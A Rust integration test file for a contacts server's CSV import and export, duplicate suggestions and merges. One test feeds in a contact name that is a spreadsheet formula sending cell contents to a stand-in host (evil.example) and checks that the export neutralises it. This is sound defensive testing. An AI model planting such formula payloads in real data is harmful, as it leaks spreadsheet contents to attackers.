//! CSV imports and exports, duplicate suggestions and merges, over HTTP against the real server.

use std::ops::ControlFlow;

use parley_core::contacts_csv::{Identifier, ImportMode, ImportOptions};
use parley_server::contacts_io::{BATCH_ROWS, ImportError, run_import};
use parley_store::NewImport;
use reqwest::{Method, StatusCode};
use serde_json::json;

use crate::helpers::{TestApp, eventually};

fn at(app: &TestApp, secs: i64) -> parley_core::Timestamp {
    use parley_core::Clock;
    app.clock.now().plus_secs(secs)
}

async fn export(app: &TestApp) -> String {
    let resp = app.client.get(app.url("/api/v1/contacts/export")).bearer_auth(&app.token).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(resp.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    resp.text().await.unwrap()
}

/// A file as spreadsheets write them: a byte order mark, `;` separators, CRLF, a quoted cell
/// spanning two lines, a cell that is not UTF-8, and rows with problems.
fn messy_file() -> Vec<u8> {
    let mut f = b"\xEF\xBB\xBFName;Phone;Email;Tags;Plan;Age:number;Notes;Date of birth\r\n".to_vec();
    f.extend_from_slice(
        b"Ana;+55 11 91234-5678;Ana@X.com;\"VIP, lead\";gold;42;\"first line\r\nsecond line\";1990-01-01\r\n",
    );
    f.extend_from_slice(b"Bob;12;bob@x.com;;;;;\r\n");
    f.extend_from_slice(b"Cy;+33 6 11 11 11 11;cy@;;;forty;;\r\n");
    f.extend_from_slice(b"D\xE9bora;+33622222222;;;;;;\r\n");
    f.extend_from_slice(b"Eve;0033 6 33 33 33 33;;;;;;\r\n");
    f.extend_from_slice(b";;;;;;;\r\n");
    f.extend_from_slice(b"Ana Souza;+5511912345678;;;;;;\r\n");
    f
}

#[tokio::test]
async fn an_uploaded_file_imports_in_the_background_and_reports_every_refused_line() {
    for app in TestApp::all().await {
        let e = app.engine();
        let done = app.import_csv(&messy_file(), json!({}), false).await;
        assert_eq!(done["state"], "done", "{e}: {done:?}");
        let got: Vec<i64> = ["created", "updated", "unchanged", "skipped", "rejected", "rows_done"]
            .iter()
            .map(|k| done[k].as_i64().unwrap())
            .collect();
        assert_eq!(got, [2, 1, 0, 0, 4, 7], "{e}: {done:?}");
        assert_eq!(done["ignored_columns"], json!(["Date of birth"]));
        assert_eq!(done["bytes_done"], done["bytes_total"]);

        let ana = app.get("/api/v1/contacts/phone:+5511912345678").await.body;
        assert_eq!(ana["name"], "Ana Souza", "{e}: a later row of the file updates the earlier one");
        assert_eq!(ana["email"], "ana@x.com");
        assert_eq!(ana["tags"], json!(["lead", "vip"]));
        assert_eq!(ana["fields"], json!({"plan": "gold", "age": 42, "notes": "first line\r\nsecond line"}));
        assert_eq!(app.get("/api/v1/contacts/phone:+33633333333").await.body["name"], "Eve");

        let id = done["id"].as_i64().unwrap();
        let rejects = app
            .client
            .get(app.url(&format!("/api/v1/imports/{id}/rejects")))
            .bearer_auth(&app.token)
            .send()
            .await
            .unwrap();
        assert_eq!(rejects.status(), StatusCode::OK);
        let text = rejects.text().await.unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<(String, String, String)> = reader
            .records()
            .map(|r| {
                let r = r.unwrap();
                (r[0].to_owned(), r[1].to_owned(), r[3].to_owned())
            })
            .collect();
        assert_eq!(
            rows,
            [
                ("4", "Phone", "invalid_phone"),
                ("5", "Email", "invalid_email"),
                ("5", "Age:number", "invalid_value"),
                ("6", "Name", "bad_encoding"),
                ("8", "", "no_identity"),
            ]
            .map(|(a, b, c)| (a.to_owned(), b.to_owned(), c.to_owned())),
            "{e}: {text}"
        );
        // The same file as windows-1252 reads Débora.
        let again = app.import_csv(&messy_file(), json!({"encoding": "windows-1252"}), false).await;
        assert_eq!((again["created"].as_i64(), again["rejected"].as_i64()), (Some(1), Some(3)), "{e}: {again:?}");
        assert_eq!(app.get("/api/v1/contacts/phone:+33622222222").await.body["name"], "Débora");
    }
}

/// The rejects file of import `id`: line, column and code of each refused value.
async fn rejected(app: &TestApp, id: i64) -> Vec<(String, String, String)> {
    let resp =
        app.client.get(app.url(&format!("/api/v1/imports/{id}/rejects"))).bearer_auth(&app.token).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let text = resp.text().await.unwrap();
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_owned(), r[1].to_owned(), r[3].to_owned())
        })
        .collect()
}

#[tokio::test]
async fn refused_lines_count_multi_line_cells_and_blank_lines() {
    let file = "name,phone,notes\nAna,+33611111111,\"one\ntwo\"\n\nBob,12,\n\n\n\
                Cy,+33622222222,\"a\n\nb\"\n\n,,\nDan,34,x\n";
    for app in TestApp::all().await {
        for eol in ["\n", "\r\n", "\r"] {
            let e = format!("{} {eol:?}", app.engine());
            let done = app.import_csv(file.replace('\n', eol).as_bytes(), json!({}), true).await;
            assert_eq!((done["created"].as_i64(), done["rejected"].as_i64()), (Some(2), Some(3)), "{e}: {done:?}");
            let rows = rejected(&app, done["id"].as_i64().unwrap()).await;
            assert_eq!(
                rows,
                [("5", "phone", "invalid_phone"), ("12", "", "no_identity"), ("13", "phone", "invalid_phone")]
                    .map(|(a, b, c)| (a.to_owned(), b.to_owned(), c.to_owned())),
                "{e}"
            );
        }
    }
}

#[tokio::test]
async fn an_export_reads_back_identically_and_a_dry_run_writes_nothing() {
    for app in TestApp::all().await {
        let e = app.engine();
        app.import_csv(&messy_file(), json!({}), false).await;
        let note = app
            .post(
                "/api/v1/contacts",
                json!({"name": "Quote \"this\", please", "email": "q@x.com", "fields": {"vip": true}}),
            )
            .await;
        assert_eq!(note.status, StatusCode::CREATED);
        let first = export(&app).await;
        assert_eq!(first.lines().next().unwrap(), "id,name,phone,email,tags,age:number,notes,plan,vip:boolean", "{e}");
        assert_eq!(first.matches("\n").count(), 5, "{e}: header, 3 contacts, a quoted newline: {first}");

        let count = app.contact_count().await;
        let dry = app.import_csv(first.as_bytes(), json!({"identifier": "id", "mode": "update"}), true).await;
        assert_eq!((dry["unchanged"].as_i64(), dry["dry_run"].as_bool()), (Some(3), Some(true)), "{e}: {dry:?}");
        let changed = first.replace("Eve", "Evelyn");
        let dry = app.import_csv(changed.as_bytes(), json!({"identifier": "id", "mode": "update"}), true).await;
        assert_eq!(dry["updated"].as_i64(), Some(1));
        assert_eq!(app.contact_count().await, count);
        assert_eq!(export(&app).await, first, "{e}: a dry run changed something");

        // Reading the export back into the same workspace changes nothing.
        let back = app.import_csv(first.as_bytes(), json!({"identifier": "id", "mode": "upsert"}), false).await;
        assert_eq!(
            (back["created"].as_i64(), back["updated"].as_i64(), back["unchanged"].as_i64()),
            (Some(0), Some(0), Some(3)),
            "{e}: {back:?}"
        );
        assert_eq!(export(&app).await, first, "{e}");
    }
}

/// Contact names a customer or a teammate chose can be formulas: the export keeps a spreadsheet
/// from running them (a `'` before the cell) and reading the file back changes nothing.
#[tokio::test]
async fn an_export_with_formula_names_opens_as_text_and_reimports_unchanged() {
    for app in TestApp::all().await {
        let e = app.engine();
        let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        let made = app
            .post(
                "/api/v1/contacts",
                json!({"name": name, "phone": "+33612345678", "fields": {"handle": "@ana", "balance": -3}}),
            )
            .await;
        assert_eq!(made.status, StatusCode::CREATED, "{e}: {:?}", made.body);
        let before = app.get(&format!("/api/v1/contacts/{}", made.body["id"])).await.body;
        let file = export(&app).await;
        let mut reader = csv::Reader::from_reader(file.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{e}: a live formula cell {cell:?} in {file}"
                );
            }
        }
        assert!(file.contains("'=HYPERLINK("), "{e}: {file}");
        assert!(file.contains("'+33612345678"), "{e}: {file}");

        let back = app.import_csv(file.as_bytes(), json!({"identifier": "id", "mode": "update"}), false).await;
        assert_eq!((back["updated"].as_i64(), back["unchanged"].as_i64()), (Some(0), Some(1)), "{e}: {back:?}");
        let after = app.get(&format!("/api/v1/contacts/{}", made.body["id"])).await.body;
        assert_eq!(after, before, "{e}");
        assert_eq!(after["name"], name);
        assert_eq!(export(&app).await, file, "{e}");
    }
}

#[tokio::test]
async fn bad_imports_are_refused_clearly() {
    for app in TestApp::all().await {
        let e = app.engine();
        let (status, body) = app.upload_import(&app.token, b"", json!({}), false).await;
        assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::BAD_REQUEST, Some("invalid_request")), "{e}");
        let (status, _) = app.upload_import(&app.token, b"name\nAna\n", json!({"modes": "add"}), false).await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        let (status, _) = app.upload_import(&app.token, b"name\nAna\n", json!({"delimiter": "x"}), false).await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        // The file part came first and was written; a refused upload leaves nothing behind.
        let left = std::fs::read_dir(&app.state.imports_dir).map(|d| d.count()).unwrap_or(0);
        assert_eq!(left, 0, "{e}: refused uploads left files");
        let form = reqwest::multipart::Form::new().text("options", "{}");
        let resp =
            app.client.post(app.url("/api/v1/imports")).bearer_auth(&app.token).multipart(form).send().await.unwrap();
        assert_eq!(resp.status(), StatusCode::BAD_REQUEST, "no file");

        let agent = app.token_for("agent", "agent@acme.example").await;
        let (status, _) = app.upload_import(&agent, b"name\nAna\n", json!({}), false).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        let export = app.call_as(Some(&agent), Method::GET, "/api/v1/contacts/export", None).await;
        assert_eq!(export.status, StatusCode::FORBIDDEN);

        // A file without the identifier's column fails as a whole, saying why.
        let failed = app.import_csv(b"name;email\nAna;a@x.com\n", json!({}), false).await;
        assert_eq!(failed["state"], "failed");
        assert!(failed["error"].as_str().unwrap().contains("identifier"), "{e}: {failed:?}");
        assert_eq!(app.contact_count().await, 0);
    }
}

#[tokio::test]
async fn an_interrupted_import_resumes_after_its_last_batch() {
    for app in TestApp::all().await {
        let e = app.engine();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("big.csv");
        // A first row over two lines, and a refused row after blank lines in the last batch:
        // the resumed reader still numbers lines from the file's start.
        let mut csv = String::from("name,phone,notes\nC0,+33610000000,\"two\nlines\"\n");
        let rows = 2 * BATCH_ROWS + 5_000;
        for i in 1..rows {
            csv.push_str(&format!("C{i},+336{:08},\n", 10_000_000 + i));
        }
        csv.push_str("\n\nBad,12,\n");
        std::fs::write(&path, &csv).unwrap();
        let store = &*app.state.store;
        let ws = parley_core::ids::WorkspaceId(1);
        let options =
            ImportOptions { mode: ImportMode::Upsert, identifier: Identifier::Phone, ..ImportOptions::default() };
        let new = NewImport {
            filename: "big.csv".into(),
            path: path.to_string_lossy().into_owned(),
            options,
            dry_run: false,
            bytes_total: csv.len() as i64,
            created_by: None,
            held_until: Some(at(&app, 30)),
        };
        let import = store.create_import(ws, new, at(&app, 0)).await.unwrap();
        // The first worker dies after one batch.
        let mut stop = |_: &parley_store::Import| ControlFlow::Break(());
        let run = run_import(store, &*app.clock, import.clone(), None, &mut stop).await;
        assert!(matches!(run, Err(ImportError::Stopped)), "{e}");
        let half = store.import(ws, import.id).await.unwrap();
        assert_eq!((half.rows_done, half.created), (BATCH_ROWS as i64, BATCH_ROWS as i64), "{e}");
        // Once its hold runs out, the server's worker takes it over and finishes it.
        app.clock.advance_secs(31);
        app.state.imports_wakeup.notify_one();
        let done = eventually(60, || async {
            store.import(ws, import.id).await.unwrap().state == parley_store::ImportState::Done
        })
        .await;
        assert!(done, "{e}");
        let end = store.import(ws, import.id).await.unwrap();
        assert_eq!(
            (end.rows_done, end.created, end.updated, end.unchanged, end.rejected),
            (rows as i64 + 1, rows as i64, 0, 0, 1),
            "{e}"
        );
        let bad_line = (rows + 5).to_string();
        assert_eq!(
            rejected(&app, import.id).await,
            [(bad_line.as_str(), "phone", "invalid_phone")].map(|(a, b, c)| (a.to_owned(), b.to_owned(), c.to_owned())),
            "{e}"
        );
        assert_eq!(store.dedupe_all(ws, at(&app, 0)).await.unwrap(), 0, "{e}: no row was applied twice");
    }
}

#[tokio::test]
async fn look_alikes_are_suggested_merged_and_remembered() {
    for app in TestApp::all().await {
        let e = app.engine();
        let a = app
            .post("/api/v1/contacts", json!({"name": "Ana", "phone": "+54 9 11 2345-6789", "tags": ["vip"]}))
            .await
            .body;
        let b = app
            .post("/api/v1/contacts", json!({"name": "Ana B", "phone": "+54 11 2345-6789", "email": "ana@x.com"}))
            .await
            .body;
        let dup = app.post("/api/v1/contacts", json!({"name": "Again", "phone": "+54 9 11 2345-6789"})).await;
        assert_eq!(
            (dup.status, dup.code()),
            (StatusCode::CONFLICT, "identifier_taken"),
            "{e}: the API adds no duplicates"
        );
        let list = app.get("/api/v1/contacts/merge-suggestions").await;
        assert_eq!(list.status, StatusCode::OK);
        let items = list.body["items"].as_array().unwrap();
        assert_eq!(items.len(), 1, "{e}: {items:?}");
        assert_eq!(
            (items[0]["reason"].as_str(), items[0]["matched"].as_str()),
            (Some("phone_variant"), Some("+5491123456789"))
        );
        assert_eq!(
            (items[0]["contact_a"]["id"].clone(), items[0]["contact_b"]["id"].clone()),
            (a["id"].clone(), b["id"].clone())
        );
        let other = app.post("/api/v1/contacts", json!({"name": "Other", "phone": "+33 6 12 34 56 78"})).await.body;
        for (contact, expected) in [(&a, 1), (&b, 1), (&other, 0)] {
            let mine = app.get(&format!("/api/v1/contacts/merge-suggestions?contact={}", contact["id"])).await;
            assert_eq!(
                mine.body["items"].as_array().map(Vec::len),
                Some(expected),
                "{e}: a contact's own suggestions, as either side: {:?}",
                mine.body
            );
        }

        let merge = json!({"primary": a["id"].to_string(), "secondary": b["id"].to_string(), "overrides": {"name": "Ana Maria"}});
        let agent = app.token_for("agent", "agent@acme.example").await;
        assert_eq!(
            app.call_as(Some(&agent), Method::POST, "/api/v1/contacts/merge", Some(merge.clone())).await.status,
            StatusCode::FORBIDDEN
        );
        let bad = app.post("/api/v1/contacts/merge", json!({"primary": "nope", "secondary": "1"})).await;
        assert_eq!(bad.status, StatusCode::BAD_REQUEST, "{e}: {:?}", bad.body);
        let merged = app.post("/api/v1/contacts/merge", merge).await;
        assert_eq!(merged.status, StatusCode::OK, "{e}: {:?}", merged.body);
        assert_eq!(merged.body["contact"]["name"], "Ana Maria");
        assert_eq!(merged.body["contact"]["email"], "ana@x.com", "the secondary fills what the primary lacked");
        let by_old_id = app.get(&format!("/api/v1/contacts/{}", b["id"])).await;
        assert_eq!(by_old_id.body["id"], a["id"], "{e}");
        let history = app.get(&format!("/api/v1/contacts/{}/history", a["id"])).await.body;
        assert_eq!(history[0]["secondary"]["name"], "Ana B");
        assert!(app.get("/api/v1/contacts/merge-suggestions").await.body["items"].as_array().unwrap().is_empty());

        let report = app.post("/api/v1/contacts/normalize?dry_run=true", json!({})).await;
        assert_eq!(
            (report.status, report.body["dry_run"].as_bool()),
            (StatusCode::OK, Some(true)),
            "{e}: {:?}",
            report.body
        );
        let dedupe = app.post("/api/v1/contacts/dedupe", json!({})).await;
        assert_eq!(dedupe.body["new_suggestions"], 0);
    }
}
